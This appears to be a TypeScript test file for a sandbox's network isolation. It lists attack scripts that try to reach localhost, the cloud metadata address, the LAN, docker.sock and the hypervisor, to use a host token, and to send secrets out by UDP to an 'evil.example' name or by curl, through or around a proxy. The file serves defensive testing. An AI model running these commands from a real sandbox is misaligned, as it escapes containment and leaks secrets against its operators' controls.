// Reaching what should not be reached, with and without the proxy.
import { type Attack, printedSecret } from '../attack.ts'

const direct = (name: string, url: string): Attack => ({
  name,
  layer: 'network namespace',
  script: `curl -sS -m 3 --noproxy '*' ${url}`,
  succeeded: printedSecret,
})

const proxied = (name: string, url: string, more = '-p'): Attack => ({
  name,
  layer: 'proxy',
  control: 'open proxy',
  script: `curl -sS -m 3 ${more} -x http://127.0.0.1:3128 ${url}`,
  succeeded: printedSecret,
})

export const networkAttacks: Attack[] = [
  direct('reach a service on localhost', 'http://127.0.0.1:$PORT/'),
  direct('reach the metadata address', 'http://$METADATA/latest/meta-data/'),
  direct('reach a machine of the local network', 'http://$LAN:$PORT/'),
  direct('reach the internet without the proxy', 'http://$FAR:$PORT/'),
  direct('reach a socket such as docker.sock', '--unix-socket $HOST/docker.sock http://docker/'),
  direct('reach an abstract socket', '--abstract-unix-socket $ABSTRACT http://agent/'),
  {
    ...direct(
      "use the house's API with its token",
      '-H "Authorization: $(cat $HOST/data/token)" http://127.0.0.1:$PORT/v1',
    ),
    succeeded: ({ reached }) => reached.some((request) => request.includes('/v1')),
  },
  {
    name: 'send a secret by a DNS-like datagram',
    layer: 'network namespace',
    language: 'python',
    script: `
import os, socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'my-secret.evil.example', (os.environ['LAN'], int(os.environ['UDP'])))
`,
    patienceMs: 100,
    succeeded: ({ reached }) => reached.some((request) => request.startsWith('udp')),
  },
  {
    name: 'open a raw socket',
    layer: 'system calls',
    caller: 'root',
    language: 'python',
    script: 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); print("raw")',
    succeeded: (_world, { out }) => out.includes('raw'),
  },
  {
    name: 'open a socket to the hypervisor',
    layer: 'system calls',
    language: 'python',
    script: 'import socket; socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print("vsock")',
    succeeded: (_world, { out }) => out.includes('vsock'),
  },
  proxied('reach the metadata address through the proxy', 'http://$METADATA/latest/'),
  proxied('reach the metadata address through the proxy, as a plain request', 'http://$METADATA/latest/', ''),
  proxied('reach localhost through the proxy', 'http://127.0.0.1:$PORT/'),
  proxied('reach the local network through the proxy', 'http://$LAN:$PORT/'),
  proxied('reach localhost by a name that resolves to it', 'http://sneaky.example:$PORT/'),
  proxied('reach a host that nobody allowed', 'http://unknown.example:$PORT/'),
  proxied('reach another port of an allowed host', 'http://allowed.example:$PORT/'),
  {
    name: 'send something to an allowed host unseen',
    layer: 'proxy',
    script: `curl -sS -m 3 -x http://127.0.0.1:3128 -p http://allowed.example:80/ -d stolen || curl -sS -m 3 --noproxy '*' http://$FAR:$PORT/stolen`,
    patienceMs: 50,
    // Reaching an allowed host is allowed; doing it without a line in the log is not.
    succeeded: ({ reached, egressLog }) =>
      reached.some((request) => request.includes('stolen')) ||
      egressLog.every(({ host }) => host !== 'allowed.example'),
  },
]
